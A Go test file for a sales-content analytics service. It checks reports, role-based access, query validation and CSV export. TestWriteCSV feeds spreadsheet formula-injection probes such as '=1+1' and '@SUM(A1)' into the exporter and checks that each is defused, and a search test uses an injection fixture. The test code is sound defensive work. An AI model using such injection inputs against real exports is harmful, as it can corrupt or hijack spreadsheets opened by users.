		slices.SortFunc(want[1:], func(a, b analytics.UnusedRow) int { return strings.Compare(a.ItemID, b.ItemID) })
		repCheck(t, "D1", w.unused("ann", analytics.ReportQuery{From: "2026-02-27", To: "2026-02-27"}), want)

		// January: stale was viewed; the others existed from the 15th.
		got := w.unused("ann", analytics.ReportQuery{From: "2026-01-01", To: "2026-01-31"})
		is.Equal(len(got), 4)
		is.True(!slices.ContainsFunc(got, func(r analytics.UnusedRow) bool { return r.ItemID == w.stale }))

		// A bot's engagement does not make an item used, unless counted:
		// a scanner read the brochure.
		w.record(analytics.Event{Type: analytics.PageViewed, At: repAt(repD3, 18, 0, 0), ShareID: repP1, ShareOwner: "sam",
			ViewID: "v9", Recipient: repBuyer, ItemID: w.brochure, SpotID: w.field, Page: 1, ActiveMS: 50, SuspectedBot: true})
		repCheck(t, "bot unseen", w.unused("fred", analytics.ReportQuery{}), []analytics.UnusedRow{brochure})
		repCheck(t, "bot counted", w.unused("fred", analytics.ReportQuery{IncludeBots: true}),
			[]analytics.UnusedRow{})
	})
}

func TestSearchGapReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		// "pricing" twice (as typed by sam and, differently, by vic);
		// "roadmap" found 1 then 0; "deck" found 5.
		pricing := analytics.SearchGapRow{Query: "pricing", Searches: 2, ZeroHits: 2, LastDay: "2026-02-28"}
		draft := analytics.SearchGapRow{Query: "-draft", Searches: 1, ZeroHits: 1, LastDay: "2026-03-01"}
		inj := analytics.SearchGapRow{Query: analytics.NormalizeQuery(repInjection), Searches: 1, ZeroHits: 1, LastDay: "2026-03-01"}
		roadmap := analytics.SearchGapRow{Query: "roadmap", Searches: 2, ZeroHits: 1, AvgHits: 0.5, LastDay: "2026-03-01"}
		for _, who := range []string{"ann", "ada"} {
			got := w.gaps(who, analytics.SearchGapQuery{})
			repCheck(t, who, got, []analytics.SearchGapRow{pricing, draft, inj})
		}
		got := w.gaps("ann", analytics.SearchGapQuery{MaxHits: 1})
		repCheck(t, "max 1", got, []analytics.SearchGapRow{pricing, roadmap, draft, inj})
		got = w.gaps("ann", analytics.SearchGapQuery{ReportQuery: analytics.ReportQuery{To: "2026-02-28"}})
		repCheck(t, "until D2", got, []analytics.SearchGapRow{pricing})
		rep, err := w.an.SearchGapReport(w.as("ann"), analytics.SearchGapQuery{MaxHits: 1, ReportQuery: analytics.ReportQuery{Limit: 3}})
		is.NoErr(err)
		is.Equal(rep.NextCursor, "3")
		rep, err = w.an.SearchGapReport(w.as("ann"), analytics.SearchGapQuery{MaxHits: 1,
			ReportQuery: analytics.ReportQuery{Limit: 3, Cursor: "3"}})
		is.NoErr(err)
		repCheck(t, "page 2", rep.Items, []analytics.SearchGapRow{inj})

		// Spot owners, sellers and viewers may not.
		for _, who := range []string{"olga", "sam", "vic"} {
			_, err := w.an.SearchGapReport(w.as(who), analytics.SearchGapQuery{})
			is.True(errors.Is(err, analytics.ErrForbidden))
		}
		_, err = w.an.SearchGapReport(w.as("ann"), analytics.SearchGapQuery{ReportQuery: analytics.ReportQuery{SpotIDs: []string{w.product}}})
		is.Equal(errcode.FieldsOf(err)["spot"], "searches are not recorded per spot")
		_, err = w.an.SearchGapReport(w.as("ann"), analytics.SearchGapQuery{MaxHits: -1})
		is.True(errcode.FieldsOf(err)["max_hits"] != "")
	})
}

// repShareBook is a ShareReader over fixed shares: its owner (or an analyst
// or admin) may read each.
type repShareBook map[string]share.Share

func (b repShareBook) Share(ctx context.Context, id string) (share.Share, error) {
	p, err := spots.PrincipalFrom(ctx)
	if err != nil {
		return share.Share{}, err
	}
	sh, ok := b[id]
	if !ok || (sh.OwnerID != p.ID && !p.IsAdmin() && !p.HasRole(spots.Analyst)) {
		return share.Share{}, share.ErrNotFound
	}
	return sh, nil
}

var repBook = repShareBook{
	repP1: {ID: repP1, Kind: share.KindPitch, OwnerID: "sam", Title: "Acme pitch"},
	repP2: {ID: repP2, Kind: share.KindPitch, OwnerID: "olga", Title: "Beta pitch"},
	// r1 is gone.
}

func TestPitchReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		// Per recipient: the share's totals, most recently active first.
		// buyer opened p1 twice (v1, v2): 6 beacons, 50 s, a download and
		// a click.
		r1buyer := analytics.RecipientRow{ShareID: repR1, ShareOwner: "sam", Recipient: repBuyer, Opens: 1, PageViews: 1,
			ActiveMS: 9000, FirstAt: repAt(repD3, 16, 0, 0), LastAt: repAt(repD3, 16, 1, 0)}
		p1cfo := analytics.RecipientRow{ShareID: repP1, ShareTitle: "Acme pitch", ShareKind: "pitch", ShareOwner: "sam",
			Recipient: repCFO, Opens: 1, PageViews: 2, ActiveMS: 8000, FirstAt: repAt(repD3, 11, 0, 0), LastAt: repAt(repD3, 11, 2, 0)}
		p1buyer := analytics.RecipientRow{ShareID: repP1, ShareTitle: "Acme pitch", ShareKind: "pitch", ShareOwner: "sam",
			Recipient: repBuyer, Opens: 2, PageViews: 6, ActiveMS: 50000, Downloads: 1, Clicks: 1, FirstAt: repAt(repD2, 14, 0, 0),
			LastAt: repAt(repD3, 10, 3, 0)}
		p1bot := analytics.RecipientRow{ShareID: repP1, ShareTitle: "Acme pitch", ShareKind: "pitch", ShareOwner: "sam",
			Recipient: repBuyer, Bot: true, Opens: 1, PageViews: 1, ActiveMS: 100, FirstAt: repAt(repD2, 13, 59, 0),
			LastAt: repAt(repD2, 13, 59, 30)}
		p2lead := analytics.RecipientRow{ShareID: repP2, ShareTitle: "Beta pitch", ShareKind: "pitch", ShareOwner: "olga",
			Recipient: repLead, Opens: 1, PageViews: 1, ActiveMS: 7000, FirstAt: repAt(repD1, 15, 0, 0), LastAt: repAt(repD1, 15, 1, 0)}

		q := analytics.PitchQuery{Shares: repBook}
		repCheck(t, "analyst", w.recipients("ann", q),
			[]analytics.RecipientRow{r1buyer, p1cfo, p1buyer, p2lead})
		repCheck(t, "admin", w.recipients("ada", q),
			[]analytics.RecipientRow{r1buyer, p1cfo, p1buyer, p2lead})
		q.IncludeBots = true
		repCheck(t, "with bots", w.recipients("ann", q),
			[]analytics.RecipientRow{r1buyer, p1cfo, p1buyer, p1bot, p2lead})
		q.IncludeBots = false
		// Sellers see their own shares, even when they ask for others'.
		repCheck(t, "sam", w.recipients("sam", q), []analytics.RecipientRow{r1buyer, p1cfo, p1buyer})
		repCheck(t, "olga", w.recipients("olga", q), []analytics.RecipientRow{p2lead})
		repCheck(t, "vic", w.recipients("vic", q), []analytics.RecipientRow{})
		q.ShareIDs = []string{repP2}
		repCheck(t, "sam asking for p2", w.recipients("sam", q), []analytics.RecipientRow{})
		repCheck(t, "ann asking for p2", w.recipients("ann", q), []analytics.RecipientRow{p2lead})
		q.ShareIDs = nil
		// Recipients whose engagement ends before the range are left out.
		q.From = "2026-02-28"
		repCheck(t, "D2..", w.recipients("ann", q), []analytics.RecipientRow{r1buyer, p1cfo, p1buyer})
		q.From = ""
		// Without a lookup, rows carry IDs alone.
		noNames := p2lead
		noNames.ShareTitle, noNames.ShareKind = "", ""
		repCheck(t, "no lookup", w.recipients("olga", analytics.PitchQuery{}), []analytics.RecipientRow{noNames})
		_, err := w.an.PitchRecipients(w.as("ann"), analytics.PitchQuery{ReportQuery: analytics.ReportQuery{SpotIDs: []string{w.product}}})
		is.True(errcode.FieldsOf(err)["spot"] != "")

		// Per item of each share: visits whose reading began in the range.
		item := func(share, title, item, itemTitle string, visits, recips, formFeedPages, ms, avg int64, count int, c float64) analytics.PitchItemRow {
			return analytics.PitchItemRow{ShareID: share, ShareTitle: title, ItemID: item, ItemTitle: itemTitle, Visits: visits,
				Recipients: recips, PagesRead: formFeedPages, ActiveMS: ms, AvgActiveMSPerPage: avg, PageCount: count, CompletionRate: repRate(c)}
		}
		p1deck := item(repP1, "Acme pitch", w.deck, "Product Deck", 2, 1, 4, 47000, 11750, 4, 0.5)
		p1sheet := item(repP1, "Acme pitch", w.sheet, "Pricing Sheet", 2, 2, 3, 11000, 3667, 2, 0.75)
		r1doc := item(repR1, "", w.fieldDoc, "Field Guide", 1, 1, 1, 9000, 9000, 3, 0.3333)
		p2deck := item(repP2, "Beta pitch", w.deck, "Product Deck", 1, 1, 1, 7000, 7000, 4, 0.25)
		q = analytics.PitchQuery{Shares: repBook}
		repCheck(t, "items", w.pitchItems("ann", q), []analytics.PitchItemRow{p1deck, p1sheet, r1doc, p2deck})
		repCheck(t, "sam's items", w.pitchItems("sam", q), []analytics.PitchItemRow{p1deck, p1sheet, r1doc})
		repCheck(t, "olga's items", w.pitchItems("olga", q), []analytics.PitchItemRow{p2deck})
		repCheck(t, "vic's items", w.pitchItems("vic", q), []analytics.PitchItemRow{})
		q.SpotIDs = []string{w.field}
		repCheck(t, "items in Field", w.pitchItems("sam", q), []analytics.PitchItemRow{r1doc})
		q.SpotIDs, q.IncludeBots = nil, true
		p1deckBots := item(repP1, "Acme pitch", w.deck, "Product Deck", 3, 1, 5, 47100, 9420, 4, 0.4167)
		repCheck(t, "sam's items with bots", w.pitchItems("sam", q), []analytics.PitchItemRow{p1deckBots, p1sheet, r1doc})

		// Per page.
		pg := func(share, title, item, itemTitle string, page int, visits, recips, ms int64) analytics.PitchPageRow {
			return analytics.PitchPageRow{ShareID: share, ShareTitle: title, ItemID: item, ItemTitle: itemTitle, Page: page,
				Visits: visits, Recipients: recips, ActiveMS: ms, AvgActiveMSPerVisit: ms / visits}
		}
		want := []analytics.PitchPageRow{
			pg(repP1, "Acme pitch", w.deck, "Product Deck", 1, 1, 1, 15000),
			pg(repP1, "Acme pitch", w.deck, "Product Deck", 2, 1, 1, 20000),
			pg(repP1, "Acme pitch", w.deck, "Product Deck", 3, 1, 1, 6000),
			pg(repP1, "Acme pitch", w.deck, "Product Deck", 4, 1, 1, 6000),
			pg(repP1, "Acme pitch", w.sheet, "Pricing Sheet", 1, 2, 2, 7000),
			pg(repP1, "Acme pitch", w.sheet, "Pricing Sheet", 2, 1, 1, 4000),
			pg(repP2, "Beta pitch", w.deck, "Product Deck", 1, 1, 1, 7000),
			pg(repR1, "", w.fieldDoc, "Field Guide", 1, 1, 1, 9000),
		}
		slices.SortStableFunc(want, func(a, b analytics.PitchPageRow) int {
			if a.ShareID != b.ShareID {
				return strings.Compare(a.ShareID, b.ShareID)
			}
			return strings.Compare(a.ItemID, b.ItemID)
		})
		q = analytics.PitchQuery{Shares: repBook}
		repCheck(t, "pages", w.pitchPages("ann", q), want)
		q.ShareIDs = []string{repP2}
		repCheck(t, "pages of p2", w.pitchPages("ann", q), []analytics.PitchPageRow{want[slices.IndexFunc(want,
			func(r analytics.PitchPageRow) bool { return r.ShareID == repP2 })]})
		repCheck(t, "sam asking for p2's pages", w.pitchPages("sam", q), []analytics.PitchPageRow{})
	})
}

func TestSellerReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		sam := analytics.SellerRow{UserID: "sam", Name: "Sam Seller", Email: "sam@example.com", ItemsPitched: 3,
			RoomsUpdated: 1, Views: 2, Downloads: 1, Bookmarks: 1, Searches: 2, SharesEngaged: 2, Recipients: 2, Opens: 4,
			PageViews: 9, ActiveMS: 67000, ExternalDownloads: 1, ExternalClicks: 1}
		olga := analytics.SellerRow{UserID: "olga", Name: "Olga Owner", Email: "olga@example.com", ItemsPitched: 1, Views: 1,
			Searches: 2, SharesEngaged: 1, Recipients: 1, Opens: 1, PageViews: 1, ActiveMS: 7000}
		ann := analytics.SellerRow{UserID: "ann", Name: "Ann Analyst", Email: "ann@example.com", Searches: 1}
		vic := analytics.SellerRow{UserID: "vic", Name: "Vic Viewer", Email: "vic@example.com", Views: 1, Searches: 2}
		repCheck(t, "analyst", w.sellers("ann", analytics.ReportQuery{}), []analytics.SellerRow{sam, olga, ann, vic})
		repCheck(t, "admin", w.sellers("ada", analytics.ReportQuery{}), []analytics.SellerRow{sam, olga, ann, vic})
		repCheck(t, "sam", w.sellers("sam", analytics.ReportQuery{}), []analytics.SellerRow{sam})
		repCheck(t, "vic", w.sellers("vic", analytics.ReportQuery{}), []analytics.SellerRow{vic})
		repCheck(t, "fred", w.sellers("fred", analytics.ReportQuery{}),
			[]analytics.SellerRow{{UserID: "fred", Name: "Fred Field", Email: "fred@example.com"}})

		bots := sam
		bots.Opens, bots.PageViews, bots.ActiveMS = 5, 10, 67100
		repCheck(t, "sam with bots", w.sellers("sam", analytics.ReportQuery{IncludeBots: true}),
			[]analytics.SellerRow{bots})
		// D3 alone: sam's room, its item and one search; buyers active on
		// D3: p1's buyer and cfo, r1's buyer (their totals).
		d3sam := analytics.SellerRow{UserID: "sam", Name: "Sam Seller", Email: "sam@example.com", ItemsPitched: 1,
			RoomsUpdated: 1, Searches: 1, SharesEngaged: 2, Recipients: 2, Opens: 4, PageViews: 9, ActiveMS: 67000,
			ExternalDownloads: 1, ExternalClicks: 1}
		repCheck(t, "sam on D3", w.sellers("sam", analytics.ReportQuery{From: "2026-03-01", To: "2026-03-01"}),
			[]analytics.SellerRow{d3sam})
		_, err := w.an.SellerReport(w.as("ann"), analytics.ReportQuery{SpotIDs: []string{w.product}})
		is.True(errcode.FieldsOf(err)["spot"] != "")
	})
}

func TestItemReport(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		is := is.New(t)
		w.record(w.events()...)
		for _, who := range []string{"sam", "vic", "ann", "olga"} { // all may view deck
			rep, err := w.an.ItemReport(w.as(who), w.deck, "2026-02-27", "2026-03-01", false)
			is.NoErr(err)
			is.Equal(rep.Title, "Product Deck")
			repCheck(t, who+": totals", rep.Totals, w.wantDeck())
			repCheck(t, who+": days", rep.Days, []analytics.DayRow{
				{Day: "2026-02-27", Views: 2, UniqueViewers: 2, Pitches: 1, ExternalOpens: 1, UniqueRecipients: 1, PageViews: 1,
					ActiveMS: 7000, PagesRead: 1},
				{Day: "2026-02-28", Views: 1, UniqueViewers: 1, Downloads: 1, Pitches: 1, ExternalOpens: 1,
					UniqueRecipients: 1, PageViews: 3, ActiveMS: 35000, PagesRead: 2, ExternalDownloads: 1},
				{Day: "2026-03-01", ExternalOpens: 1, UniqueRecipients: 1, PageViews: 2, ActiveMS: 12000, PagesRead: 2},
			})
		}
		// D1's pitch is olga's; with bots D2 gains the scanner's visit.
		rep, err := w.an.ItemReport(w.as("ann"), w.deck, "2026-02-28", "2026-02-28", true)
		is.NoErr(err)
		repCheck(t, "D2 with bots", rep.Days, []analytics.DayRow{{Day: "2026-02-28", Views: 1, UniqueViewers: 1, Downloads: 1,
			Pitches: 1, ExternalOpens: 2, UniqueRecipients: 1, PageViews: 4, ActiveMS: 35100, PagesRead: 3, ExternalDownloads: 1}})

		// Default range: 30 days ending today, zeros included.
		rep, err = w.an.ItemReport(w.as("sam"), w.stale, "", "", false)
		is.NoErr(err)
		is.Equal(len(rep.Days), 30)
		is.Equal(rep.Days[0].Day, analytics.Day("2026-02-01"))
		repCheck(t, "stale", rep.Totals, analytics.ContentRow{ItemID: w.stale, Title: "Old Brochure", SpotID: w.product})

		// Those who may not view the item get not found, analysts too.
		for _, who := range []string{"ann", "olga"} {
			_, err := w.an.ItemReport(w.as(who), w.fieldDoc, "", "", false)
			is.True(errors.Is(err, items.ErrNotFound))
		}
		_, err = w.an.ItemReport(w.as("vic"), w.draft, "", "", false)
		is.True(errors.Is(err, items.ErrNotFound))
		_, err = w.an.ItemReport(w.as("fred"), w.fieldDoc, "2026-03-02", "2026-03-01", false)
		is.Equal(errcode.FieldsOf(err)["from"], "must not be after to (2026-03-01)")
	})
}

func TestReportQueryValidation(t *testing.T) {
	w := newRepWorld(t, memstore.New())
	for _, c := range []struct {
		q     analytics.ReportQuery
		field string
	}{
		{analytics.ReportQuery{From: "2026-2-1"}, "from"},
		{analytics.ReportQuery{From: "yesterday"}, "from"},
		{analytics.ReportQuery{To: "2026-02-30"}, "to"},
		{analytics.ReportQuery{From: "2026-03-02", To: "2026-03-01"}, "from"},
		{analytics.ReportQuery{From: "2024-03-01", To: "2026-03-01"}, "to"},
		{analytics.ReportQuery{Limit: -1}, "limit"},
		{analytics.ReportQuery{Limit: analytics.MaxReportLimit + 1}, "limit"},
		{analytics.ReportQuery{Cursor: "abc"}, "cursor"},
		{analytics.ReportQuery{Cursor: "-1"}, "cursor"},
		{analytics.ReportQuery{SpotIDs: []string{""}}, "spot"},
	} {
		_, err := w.an.ContentReport(w.as("ann"), c.q)
		fields := errcode.FieldsOf(err)
		if !errors.Is(err, analytics.ErrInvalid) || fields[c.field] == "" || len(fields) != 1 {
			t.Errorf("%+v: got %v, want a problem with %s alone", c.q, err, c.field)
		}
	}
	// The longest range: two years less a day.
	rep, err := w.an.ContentReport(w.as("ann"), analytics.ReportQuery{From: "2024-03-02", To: "2026-03-01"})
	if err != nil || rep.From != "2024-03-02" {
		t.Errorf("two years less a day: %v", err)
	}
	// To alone: the 30 days ending there.
	rep, err = w.an.ContentReport(w.as("ann"), analytics.ReportQuery{To: "2026-01-31"})
	if err != nil || rep.From != "2026-01-02" || rep.To != "2026-01-31" {
		t.Errorf("to alone: %+v, %v", rep, err)
	}
}

var repUUIDRE = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}`)

// repGolden compares got, with UUIDs replaced by <id>, with testdata/name;
// -update rewrites the file.
func repGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	got = repUUIDRE.ReplaceAll(got, []byte("<id>"))
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (run go test -update if the change is intended)\ngot:\n%s\nwant:\n%s", path, got, want)
	}
}

func TestReportsCSV(t *testing.T) {
	eachRepStore(t, func(t *testing.T, w *repWorld) {
		w.record(w.events()...)
		var b bytes.Buffer
		gaps := w.gaps("ann", analytics.SearchGapQuery{MaxHits: 1})
		if err := analytics.WriteCSV(&b, gaps); err != nil {
			t.Fatal(err)
		}
		repGolden(t, "search_gaps.csv", b.Bytes())

		b.Reset()
		content := w.content("ann", analytics.ReportQuery{})
		if err := analytics.WriteCSV(&b, content); err != nil {
			t.Fatal(err)
		}
		repGolden(t, "content.csv", b.Bytes())

		b.Reset()
		rec := w.recipients("ann", analytics.PitchQuery{Shares: repBook})
		if err := analytics.WriteCSV(&b, rec); err != nil {
			t.Fatal(err)
		}
		repGolden(t, "pitch_recipients.csv", b.Bytes())

		b.Reset()
		unused := w.unused("ann", analytics.ReportQuery{})
		if err := analytics.WriteCSV(&b, unused); err != nil {
			t.Fatal(err)
		}
		repGolden(t, "unused.csv", b.Bytes())
	})
}

func TestWriteCSV(t *testing.T) {
	is := is.New(t)
	type inner struct {
		Note string `json:"note,omitempty"`
	}
	type row struct {
		inner
		Text   string    `json:"text"`
		N      int64     `json:"n"`
		F      float64   `json:"f"`
		P      *float64  `json:"p"`
		B      bool      `json:"b"`
		At     time.Time `json:"at"`
		List   []string  `json:"list"`
		Hidden string    `json:"-"`
		Plain  string
	}
	big := 1234567.0
	var b bytes.Buffer
	is.NoErr(analytics.WriteCSV(&b, []row{
		{inner: inner{Note: "+1 555"}, Text: "=1+1", N: -3, F: 0.1, P: &big, B: true,
			At: time.Date(2026, 3, 1, 10, 0, 0, 500, time.FixedZone("x", 3600)), List: []string{"user:a", "group:b"}, Plain: "a,b"},
		{Text: "@SUM(A1)", F: 1e21, List: []string{"-x"}, Plain: "say \"hi\"\nthere"},
		{inner: inner{Note: "\rx"}, Text: "\tcmd", Plain: "-"},
		{inner: inner{Note: "a=b"}, Text: "plain text"},
	}))
	lines := strings.Split(b.String(), "\r\n")
	is.Equal(lines[0], "note,text,n,f,p,b,at,list,Plain")
	is.Equal(lines[1], `'+1 555,'=1+1,-3,0.1,1234567,true,2026-03-01T09:00:00.0000005Z,user:a; group:b,"a,b"`)
	is.Equal(lines[2], `,'@SUM(A1),0,1000000000000000000000,,false,,'-x,"say ""hi""`)
	is.Equal(lines[3], `there"`)
	// encoding/csv drops a lone carriage return when lines end in CRLF;
	// the cell stays defused and quoted.
	is.Equal(lines[4], "\"'x\",'\tcmd,0,0,,false,,,'-")
	is.Equal(lines[5], "a=b,plain text,0,0,,false,,,")
	is.Equal(lines[6], "")
	is.Equal(len(lines), 7)

	// The header comes even without rows.
	b.Reset()
	is.NoErr(analytics.WriteCSV(&b, []analytics.SearchGapRow{}))
	is.Equal(b.String(), "query,searches,zero_hits,avg_hits,last_day\r\n")
}
